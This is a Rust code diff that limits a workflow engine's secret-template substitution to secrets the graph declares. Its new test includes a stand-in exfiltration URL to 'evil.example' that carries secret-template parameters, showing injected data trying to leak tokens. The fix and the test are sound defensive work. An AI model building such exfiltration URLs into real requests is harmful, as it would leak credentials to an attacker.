@@ -85,7 +85,8 @@ pub struct Resolved {
 /// Resolves the `{{ secrets.NAME }}` templates of `event.config` for the execution's tenant
 /// (one lookup for all names; none at all when the config has no secret template).
 pub async fn resolve_config(resolver: &dyn SecretResolver, event: &NodeEvent) -> Result<Resolved, NodeError> {
-    let names = node_contract::secret_names(&event.config);
+    // Only what the graph declared (see `NodeEvent::secrets`); templates data carried in stay text.
+    let names: BTreeSet<String> = event.secrets.values().flatten().cloned().collect();
     let mut config = event.config.clone();
     if names.is_empty() {
         return Ok(Resolved { config, scrubber: Scrubber::default() });
@@ -98,7 +99,8 @@ pub async fn resolve_config(resolver: &dyn SecretResolver, event: &NodeEvent) ->
     }
     let values = resolver.resolve(&event.execution.id, &names).await.map_err(|e| e.node_error())?;
     let scrubber = Scrubber::new(values.values().map(String::as_str));
-    node_contract::resolve_secrets(&mut config, &|name| values.get(name).cloned()).map_err(|e| scrubber.error(e))?;
+    node_contract::resolve_declared_secrets(&mut config, &event.secrets, &|name| values.get(name).cloned())
+        .map_err(|e| scrubber.error(e))?;
     Ok(Resolved { config, scrubber })
 }
 
@@ -673,8 +675,9 @@ mod tests {
 
     #[tokio::test]
     async fn resolve_config_substitutes_and_scrubs() {
+        let config = json!({"url": "http://h/{{ secrets.TOKEN }}", "method": "{{ secrets.NOPE }}"});
         let event = NodeEvent::from_value(json!({"node": {"id": "n", "type": "http"}, "execution": {"id": "arn:x"},
-            "config": {"url": "http://h/{{ secrets.TOKEN }}", "method": "{{ secrets.NOPE }}"}}))
+            "secrets": node_contract::secret_refs(&config), "config": config}))
         .unwrap();
         let err = resolve_config(&StaticSecrets::parse("TOKEN=t0k").unwrap(), &event).await.unwrap_err();
         assert_eq!(err.name, "Secret.NotFound");
@@ -685,6 +688,20 @@ mod tests {
         // No secret templates: no lookup at all (NoSecrets would fail one).
         let plain = NodeEvent::from_value(json!({"node": {"id": "n", "type": "http"}, "config": {"url": "http://h/"}})).unwrap();
         assert!(resolve_config(&NoSecrets, &plain).await.unwrap().scrubber.is_empty());
+    }
+
+    #[tokio::test]
+    async fn templates_that_data_carried_in_are_never_resolved() {
+        // The graph templated `{{ input.url }}` into `url` and a secret into `headers.a`; the
+        // input's URL itself holds a secret template (an attacker's webhook body, say).
+        let event = NodeEvent::from_value(json!({"node": {"id": "n", "type": "http"}, "execution": {"id": "arn:x"},
+            "secrets": {"/headers/a": ["TOKEN"]},
+            "config": {"url": "https://evil.example/?k={{ secrets.TOKEN }}&d={{ secrets.DB }}",
+                       "headers": {"a": "Bearer {{ secrets.TOKEN }} {{ secrets.DB }}"}}}))
+        .unwrap();
+        let r = resolve_config(&StaticSecrets::parse("TOKEN=t0k\nDB=pw").unwrap(), &event).await.unwrap();
+        assert_eq!(r.config["url"], "https://evil.example/?k={{ secrets.TOKEN }}&d={{ secrets.DB }}");
+        assert_eq!(r.config["headers"]["a"], "Bearer t0k {{ secrets.DB }}", "only the declared name, only there");
     }
 
     #[test]
